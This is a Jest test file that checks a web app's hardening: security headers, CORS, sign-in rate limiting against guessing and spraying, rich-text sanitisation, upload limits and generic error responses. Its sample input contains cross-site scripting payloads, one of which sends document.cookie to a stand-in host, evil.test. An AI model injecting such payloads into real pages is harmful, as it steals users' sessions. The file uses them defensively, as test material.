/**
 * Hardening over HTTP: security headers, the CORS allow-list from configuration, sign-in rate limiting under 500
 * attempts (one after another, and 500 at the same moment), stored rich text sanitised, uploads limited in size and
 * type, no fault detail in a 500.
 */
import { EVENT_STORE } from '../event-store/event-store.port';
import { startTestApp, type TestApp } from '../testing/test-app';

jest.setTimeout(5 * 60_000);

const ATTEMPTS = 500;
const PNG_1PX = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');
const HOSTILE_HTML =
  '<p>Filed <b>on time</b></p><script>fetch("//evil.test?c="+document.cookie)</script>' +
  '<img src="x" onerror="alert(1)"><a href="javascript:alert(1)">receipt</a><iframe src="//evil.test"></iframe>' +
  '<div style="background:url(javascript:alert(1))" onclick="alert(1)">x</div><svg onload="alert(1)"></svg>';

function expectInert(html: string) {
  expect(html).toContain('<b>on time</b>');
  for (const bad of ['<script', 'onerror', 'onclick', 'onload', 'javascript:', '<iframe', '<svg', 'style=']) expect(html).not.toContain(bad);
}

describe('hardening', () => {
  let t: TestApp;
  let admin: string;
  beforeAll(async () => {
    // A stub web build served in front of the API, as npm start does: refusals must keep their status with it.
    // Addresses are set with X-Forwarded-For, believed from the loopback proxy named by TRUST_PROXY (as behind a local proxy).
    t = await startTestApp({ env: { CORS_ORIGINS: 'https://partner.example', SIGN_IN_LIMIT: '10', SIGN_IN_WINDOW_MS: '60000', TRUST_PROXY: 'loopback' }, web: true });
    admin = await t.signIn('admin@cis.test');
  });
  afterAll(() => t.close());

  it('sends helmet security headers on API answers and errors', async () => {
    for (const res of [await t.http.get('/health'), await t.http.get('/api/common/messages').set(t.auth(admin)), await t.http.get('/api/nothing-here')]) {
      expect(res.headers).toMatchObject({
        'x-content-type-options': 'nosniff',
        'x-frame-options': 'SAMEORIGIN',
        'referrer-policy': 'no-referrer',
        'cross-origin-opener-policy': 'same-origin',
        'strict-transport-security': expect.stringContaining('max-age='),
      });
      expect(res.headers['content-security-policy']).toMatch(/default-src 'self'.*object-src 'none'|object-src 'none'.*default-src 'self'/);
      expect(res.headers['content-security-policy']).toContain("frame-ancestors 'self'");
      // Images may come from https (product pictures on a CDN); scripts only from the portal itself.
      expect(res.headers['content-security-policy']).toMatch(/img-src 'self' data: blob: https:(;|$)/);
      expect(res.headers['content-security-policy']).toMatch(/script-src 'self'(;|$)/);
      expect(res.headers['x-powered-by']).toBeUndefined();
    }
  });

  it('answers CORS only for the configured origins', async () => {
    const allowed = await t.http.options('/api/common/messages').set('Origin', 'https://partner.example').set('Access-Control-Request-Method', 'PATCH');
    expect(allowed.headers['access-control-allow-origin']).toBe('https://partner.example');
    for (const origin of ['https://evil.example', 'https://partner.example.evil.test', 'null']) {
      const refused = await t.http.options('/api/common/messages').set('Origin', origin).set('Access-Control-Request-Method', 'PATCH');
      expect({ origin, allow: refused.headers['access-control-allow-origin'] }).toEqual({ origin, allow: undefined });
      const get = await t.http.get('/api/common/messages').set('Origin', origin).set(t.auth(admin));
      expect(get.headers['access-control-allow-origin']).toBeUndefined();
    }
  });

  it(`holds the sign-in limit under ${ATTEMPTS} attempts: per email across addresses, and per address across emails`, async () => {
    const tally = (statuses: number[]) => statuses.reduce<Record<number, number>>((acc, s) => ({ ...acc, [s]: (acc[s] ?? 0) + 1 }), {});
    // The owner signed in from this address before the attack: it stays open to them.
    await t.http.post('/api/auth/sign-in').set('X-Forwarded-For', '198.51.100.8').send({ email: 'staff@cis.test', password: 'cis-demo-2026' }).expect(200);
    // One account guessed from many addresses.
    const guesses: number[] = [];
    for (let i = 0; i < ATTEMPTS; i += 1) {
      const res = await t.http.post('/api/auth/sign-in').set('X-Forwarded-For', `203.0.113.${i % 250}`).send({ email: 'staff@cis.test', password: `guess-${i}` });
      guesses.push(res.status);
      if (res.status === 429) expect(res.body).toMatchObject({ status: 429, error: 'Too Many Requests' });
    }
    // The right password from an address the account never used waits for the window; from the owner's address it works.
    const right = await t.http.post('/api/auth/sign-in').set('X-Forwarded-For', '198.51.100.7').send({ email: 'staff@cis.test', password: 'cis-demo-2026' });
    expect(right.status).toBe(429);
    await t.http.post('/api/auth/sign-in').set('X-Forwarded-For', '198.51.100.8').send({ email: 'staff@cis.test', password: 'cis-demo-2026' }).expect(200);
    // Many accounts sprayed from one address.
    const spray: number[] = [];
    for (let i = 0; i < ATTEMPTS; i += 1) {
      const res = await t.http.post('/api/auth/sign-in').set('X-Forwarded-For', '198.51.100.99').send({ email: `user${i}@cis.test`, password: 'cis-demo-2026' });
      spray.push(res.status);
    }
     
    console.log(`sign-in limit (10 per address, 50 per email from unfamiliar addresses, per 60 s): ${ATTEMPTS} guesses at one email from 250 addresses -> ${JSON.stringify(tally(guesses))}; ` +
      `${ATTEMPTS} emails from one address -> ${JSON.stringify(tally(spray))}; the right password after the guesses -> ${right.status} from a new address, 200 from the owner's`);
    // 49: the email's 50 attempts from unfamiliar addresses, less the owner's first sign-in from 198.51.100.8.
    expect(guesses.filter((s) => s !== 429)).toEqual(Array(49).fill(401));
    expect(spray.filter((s) => s !== 429).length).toBe(10);
    expect(new Set(guesses.concat(spray))).toEqual(new Set([401, 429]));
  });

  it(`holds the sign-in limit under a burst of ${ATTEMPTS} attempts sent at the same moment, both ways`, async () => {
    const tally = (statuses: number[]) => statuses.reduce<Record<number, number>>((acc, s) => ({ ...acc, [s]: (acc[s] ?? 0) + 1 }), {});
    // Keys the sequential test did not touch: another account, other addresses (500 distinct), another single address.
    const address = (i: number) => `100.64.${i >> 8}.${i & 255}`;
    const guesses = await Promise.all(Array.from({ length: ATTEMPTS }, async (_, i) => {
      const res = await t.http.post('/api/auth/sign-in').set('X-Forwarded-For', address(i)).send({ email: 'vendor@cis.test', password: `burst-${i}` });
      if (res.status === 429) expect(res.body).toMatchObject({ status: 429, error: 'Too Many Requests' });
      return res.status;
    }));
    const right = await t.http.post('/api/auth/sign-in').set('X-Forwarded-For', '192.0.2.1').send({ email: 'vendor@cis.test', password: 'cis-demo-2026' });
    const spray = await Promise.all(Array.from({ length: ATTEMPTS }, async (_, i) =>
      (await t.http.post('/api/auth/sign-in').set('X-Forwarded-For', '198.51.100.200').send({ email: `burst${i}@cis.test`, password: 'cis-demo-2026' })).status));
     
    console.log(`sign-in limit (10 per address, 50 per email from unfamiliar addresses, per 60 s), concurrent: ${ATTEMPTS} guesses at one email from ${ATTEMPTS} addresses at once -> ${JSON.stringify(tally(guesses))}; ` +
      `${ATTEMPTS} emails from one address at once -> ${JSON.stringify(tally(spray))}; the right password after the burst -> ${right.status}`);
    expect(guesses.filter((s) => s !== 429)).toEqual(Array(50).fill(401));
    expect(right.status).toBe(429);
    expect(spray.filter((s) => s !== 429)).toEqual(Array(10).fill(401));
    expect(new Set(guesses.concat(spray))).toEqual(new Set([401, 429]));
  });

  it('sanitises stored rich text (contact notes, notes) and keeps the formatting', async () => {
    const contact = (await t.http.post('/api/apps/contacts/contact').set(t.auth(admin)).send({}).expect(200)).body;
    const patched = await t.http.patch('/api/apps/contacts/contact').set(t.auth(admin)).send({ id: contact.id, contact: { notes: HOSTILE_HTML } }).expect(200);
    expectInert(patched.body.notes);
    expectInert((await t.http.get(`/api/apps/contacts/contact?id=${contact.id}`).set(t.auth(admin)).expect(200)).body.notes);
    const note = await t.http.post('/api/apps/notes').set(t.auth(admin)).send({ note: { title: 'Hostile', content: HOSTILE_HTML } }).expect(200);
    expectInert(note.body.content);
    const stored = (await t.store.readAll(0, 100_000)).filter((e) => JSON.stringify(e.data).includes('on time'));
    expect(stored.length).toBeGreaterThanOrEqual(2);
    for (const e of stored) expect(JSON.stringify(e.data)).not.toMatch(/<script|onerror|javascript:/);
  });

  it('limits uploads in size and type', async () => {
    const contact = (await t.http.post('/api/apps/contacts/contact').set(t.auth(admin)).send({}).expect(200)).body;
    const upload = (buffer: Buffer, filename: string, contentType: string) =>
      t.http.post('/api/apps/contacts/avatar').set(t.auth(admin)).field('id', contact.id).attach('avatar', buffer, { filename, contentType });
    const before = await t.store.lastPosition();
    // A real PNG header followed by padding: an image by its bytes, one byte over 1 MiB.
    const big = Buffer.alloc(1024 * 1024 + 1);
    big.set(PNG_1PX);
    const tooBig = await upload(big, 'big.png', 'image/png');
    expect(tooBig.status).toBe(400);
    const overLimit = await upload(Buffer.alloc(3 * 1024 * 1024), 'huge.png', 'image/png');
    expect(overLimit.status).toBe(400); // multer's refusal of a file over the body limit (see AvatarUploadInterceptor)
    const script = await upload(Buffer.from('<script>alert(1)</script>'), 'avatar.png', 'image/png');
    expect(script.status).toBe(400);
    const svg = await upload(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'avatar.svg', 'image/svg+xml');
    expect(svg.status).toBe(400);
    const html = await upload(Buffer.from('<html><body>hi</body></html>'), 'a.html', 'text/html');
    expect(html.status).toBe(400);
    for (const res of [tooBig, overLimit, script, svg, html]) expect(res.body.status).toBe(res.status);
    expect(await t.store.lastPosition()).toBe(before);
    const ok = await upload(PNG_1PX, 'dot.png', 'image/png');
    expect(ok.status).toBeLessThan(300);
    expect(JSON.stringify(ok.body)).toContain('data:image/png;base64,');
  });
});

describe('a fault inside the BFF', () => {
  it('answers 500 with the generic text only: no stack, path, SQL or driver message', async () => {
    const t = await startTestApp();
    const admin = await t.signIn('admin@cis.test');
    const store = t.app.get(EVENT_STORE) as { close(): Promise<void> };
    // The store goes away under the running app: every read and write now fails inside the driver.
    await store.close();
    try {
      for (const [method, path, body] of [['get', '/api/common/messages'], ['post', '/api/common/messages', { message: { title: 'x' } }], ['get', '/api/apps/contacts/all']] as const) {
        const res = await t.http[method](path).set(t.auth(admin)).send(body as object);
        expect(res.status).toBe(500);
        expect(res.body).toEqual({ status: 500, error: 'Internal Server Error', developerMessage: 'Internal Server Error. Please try again later.' });
        expect(res.text).not.toMatch(/\bat\s|\.ts|\.js|sqlite|SELECT|database|connection/i);
      }
    } finally {
      await t.close().catch(() => undefined);
    }
  });
});
